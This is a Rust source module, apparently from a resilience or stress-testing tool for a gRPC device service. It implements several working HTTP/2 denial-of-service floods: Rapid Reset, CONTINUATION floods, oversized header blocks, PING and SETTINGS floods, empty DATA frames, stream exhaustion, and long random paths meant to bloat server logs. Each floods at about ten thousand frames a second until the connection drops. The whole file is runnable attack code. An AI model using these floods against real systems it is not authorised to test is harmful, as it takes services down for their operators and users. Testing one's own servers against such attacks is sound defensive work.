//! Frames that cost the sender little.

use std::time::Duration;

use rand::Rng as _;
use tokio::{
    io::{AsyncReadExt as _, AsyncWriteExt as _, split},
    time::sleep,
};

use super::super::{
    frames::{
        CONTINUATION, DATA, END_HEADERS, HEADERS, PING, RST_STREAM, SETTINGS, call, frame, greeting,
    },
    target::Target,
};

const PATH: &str = "/kernex.v1.DeviceService/GetDevice";

/// Frames sent at once.
const AT_ONCE: usize = 100;

/// Pause between two bursts: ten thousand frames a second.
const BETWEEN: Duration = Duration::from_millis(10);

/// The largest frame a server takes that has not said otherwise.
const FRAME: usize = 16_384;

/// Sends `first`, and then what `next` makes again and again, until the server ends the connection.
async fn flood(target: &Target, first: Vec<u8>, mut next: impl FnMut() -> Vec<u8>) {
    let Ok(stream) = target.tls().await else {
        return;
    };
    let (mut answers, mut stream) = split(stream);
    let reading = async {
        let mut bytes = vec![0; FRAME];
        while !matches!(answers.read(&mut bytes).await, Ok(0) | Err(_)) {}
    };
    let writing = async {
        let mut bytes = greeting();
        bytes.extend(first);
        loop {
            if stream.write_all(&bytes).await.is_err() || stream.flush().await.is_err() {
                return;
            }
            target.did();
            sleep(BETWEEN).await;
            bytes.clear();
            for _ in 0..AT_ONCE {
                bytes.extend(next());
            }
        }
    };
    tokio::select! {
        () = reading => {}
        () = writing => {}
    }
}

/// Numbers of streams, as a client gives them.
fn streams() -> impl FnMut() -> u32 {
    let mut stream = 1;
    move || {
        stream += 2;
        stream - 2
    }
}

pub(super) async fn rapid_reset(target: &Target, _: usize) {
    let (mut stream, call) = (streams(), call(PATH, &[]));
    flood(target, Vec::new(), || {
        let stream = stream();
        let mut bytes = frame(HEADERS, END_HEADERS, stream, &call);
        bytes.extend(frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes()));
        bytes
    })
    .await;
}

pub(super) async fn continuation(target: &Target, _: usize) {
    let first = frame(HEADERS, 0, 1, &call(PATH, &[]));
    let more = call(PATH, &[("x-more", "x")]);
    flood(target, first, || frame(CONTINUATION, 0, 1, &more)).await;
}

pub(super) async fn huge_headers(target: &Target, _: usize) {
    let value = "x".repeat(15_000);
    let more = [("x-a", value.as_str()), ("x-b", &value), ("x-c", &value)];
    let block = call(PATH, &more);
    let mut stream = streams();
    flood(target, Vec::new(), || {
        let stream = stream();
        let mut pieces = block.chunks(FRAME).peekable();
        let (mut bytes, mut kind) = (Vec::new(), HEADERS);
        while let Some(piece) = pieces.next() {
            let flags = if pieces.peek().is_none() {
                END_HEADERS
            } else {
                0
            };
            bytes.extend(frame(kind, flags, stream, piece));
            kind = CONTINUATION;
        }
        bytes
    })
    .await;
}

pub(super) async fn pings(target: &Target, _: usize) {
    flood(target, Vec::new(), || frame(PING, 0, 0, &[7; 8])).await;
}

pub(super) async fn settings(target: &Target, _: usize) {
    flood(target, Vec::new(), || frame(SETTINGS, 0, 0, &[])).await;
}

pub(super) async fn empty_data(target: &Target, _: usize) {
    let first = frame(HEADERS, END_HEADERS, 1, &call(PATH, &[]));
    flood(target, first, || frame(DATA, 0, 1, &[])).await;
}

pub(super) async fn many_streams(target: &Target, _: usize) {
    let (mut stream, call) = (streams(), call(PATH, &[]));
    flood(target, Vec::new(), || {
        frame(HEADERS, END_HEADERS, stream(), &call)
    })
    .await;
}

/// Calls of unknown methods with the longest names allowed: how much of them gets into the log?
pub(super) async fn long_paths(target: &Target, _: usize) {
    const STREAM_ENDS: u8 = 0x1;
    let mut stream = streams();
    flood(target, Vec::new(), || {
        let mut random = [0; 7000];
        rand::rng().fill_bytes(&mut random);
        let path = format!("/{}", hex::encode(random));
        frame(
            HEADERS,
            END_HEADERS | STREAM_ENDS,
            stream(),
            &call(&path, &[]),
        )
    })
    .await;
}
